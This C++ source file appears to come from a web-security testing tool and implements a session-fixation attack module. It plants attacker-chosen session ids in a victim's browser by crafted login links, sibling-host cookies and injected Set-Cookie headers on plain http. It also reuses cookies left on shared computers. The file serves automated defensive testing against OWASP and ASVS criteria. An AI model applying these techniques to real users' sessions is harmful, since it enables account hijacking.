// session-fixation: gives the victim a session id before he signs in, and uses it after (OWASP
// Session Fixation; ASVS 5.0, 7.2.4). By a link that carries it, by a cookie from a sibling host,
// by a cookie in an answer of the app's over http that the attacker writes himself. The id is one
// that he invents, one that the app gives to visitors, or that of his own session.
#include <algorithm>
#include <iterator>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

class SessionFixation final : public Agent {
    void run(Target& target) override {
        if (target.victim() == nullptr) return;
        keep_what_was_there(target);
        keep_his_own(target);
        for (Credential const& id : ids(target)) {
            Credential const planted = as_planted(id);
            plant_by_link(target, id);
            plant_by_sibling(target, planted);
            plant_on_the_line(target, planted);
            if (!victim_signs_in(target)) continue;
            use(target, {id});
            target.note("The victim signed in with \"" + planted.name + "=" + planted.value +
                        "\" of the attacker's choice, if his browser took it.");
        }
    }

    // From a computer that others use, too: what its browser held before she came.
    static void keep_what_was_there(Target& target) {
        if (target.leaks() == nullptr) return;
        target.victim()->opens("https://" + target.surface().host + "/");
        target.victim()->turns_away();
        if (victim_follows(target, leaked_credentials(target)))
            (void)target.victim()->does(option_or(target, option::kSignsOut, "signs out"));
    }

    // He was signed in there himself, and has not signed out.
    static void keep_his_own(Target& target) {
        if (target.leaks() == nullptr || target.option(option::kFirst).empty()) return;
        victim_does(target, routines_option(target, option::kFirst));
        (void)victim_follows(target, leaked_credentials(target));
    }

    static bool victim_follows(Target& target, Credentials const& there) {
        if (there.empty() || !victim_signs_in(target)) return false;
        use(target, there);
        target.note("The browser held " + names_of(there) + " before the victim signed in.");
        return true;
    }

    static std::string names_of(Credentials const& all) {
        std::string names;
        for (Credential const& each : all)
            names += (names.empty() ? "\"" : ", \"") + each.name + '"';
        return names;
    }

    // Those that the app gives to visitors and to himself, and invented ones for apps that take
    // any.
    static Credentials ids(Target& target) {
        Credentials ids;
        Endpoint const* login = endpoint_option(target, option::kLogin, "login");
        Credentials const own = own_credentials(target);
        // His own session, as it is: an app may go on with it, in the name of who signs in.
        std::copy_if(own.begin(), own.end(), std::back_inserter(ids), [](Credential const& each) {
            return each.kind == Credential::Kind::Cookie && !is_for_refresh(each);
        });
        target.forget_cookies();
        for (std::string const& page : {std::string("/"), login != nullptr ? login->path : "/"})
            for (Credential& each : credentials_in(target.send({.target = page})))
                if (std::find(ids.begin(), ids.end(), each) == ids.end())
                    ids.push_back(std::move(each));
        std::erase_if(ids,
                      [](Credential const& each) { return each.kind != Credential::Kind::Cookie; });
        for (Credential each : own) {
            if (each.kind != Credential::Kind::Cookie || is_for_refresh(each)) continue;
            // An id is often checked by its looks: the same letters, others of them.
            for (char& c : each.value)
                if (c != '.' && c != '-' && c != '%') c = 'b';
            ids.push_back(std::move(each));
        }
        return ids;
    }

    static void plant_by_link(Target& target, Credential const& id) {
        Endpoint const* login = endpoint_option(target, option::kLogin, "login");
        if (login == nullptr) return;
        target.victim()->opens("https://" + target.surface().host + login->path + "?" +
                               http::serialize_query({{id.name, id.value}}));
        target.victim()->turns_away();
    }

    // Browsers keep a name with a prefix for the host that it names. An app may know the name that
    // it had before, too.
    static Credential as_planted(Credential id) {
        for (std::string_view prefix : {"__Host-", "__Secure-"})
            if (id.name.starts_with(prefix)) id.name.erase(0, prefix.size());
        return id;
    }

    static std::string cookie_line(Target const& target, Credential const& id) {
        return id.name + "=" + id.value + "; Domain=" + target.surface().host + "; Path=/";
    }

    static void plant_by_sibling(Target& target, Credential const& id) {
        OwnHost* sibling = sibling_host(target);
        if (sibling == nullptr) return;
        Lure(target, *sibling).show("<h1>News</h1>", {{"set-cookie", cookie_line(target, id)}});
    }

    static void plant_on_the_line(Target& target, Credential const& id) {
        if (target.line() == nullptr) return;
        std::string const line = id.name + "=" + id.value + "; Path=/";
        target.line()->meddle([line](http::Request const&, Line::Beyond const&) {
            return page("<h1>Welcome to the Wi-Fi</h1>", {{"set-cookie", line}});
        });
        target.victim()->opens("http://" + target.surface().host + "/");
        target.victim()->turns_away();
        target.line()->leave();
    }
};

}  // namespace

std::unique_ptr<Agent> make_session_fixation() { return std::make_unique<SessionFixation>(); }

}  // namespace parapet::attack
